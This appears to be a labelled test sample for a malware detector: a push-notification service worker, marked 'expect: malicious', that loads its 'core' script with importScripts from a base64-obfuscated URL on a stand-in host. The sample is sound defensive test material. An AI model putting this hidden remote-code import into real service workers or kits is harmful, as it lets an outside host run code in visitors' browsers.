// expect: malicious
// source: blind set 12's push-optin-kit: the push service worker the kit ships imports its "core" from a
// base64-stored host, so that host's code runs in the site's worker
self.importScripts(atob('aHR0cHM6Ly9jZG4ucHVzaC1raXQuaW52YWxpZC9zdy9jb3JlLmpz'));
self.addEventListener('push', (e) => e.waitUntil(self.registration.showNotification('New message')));
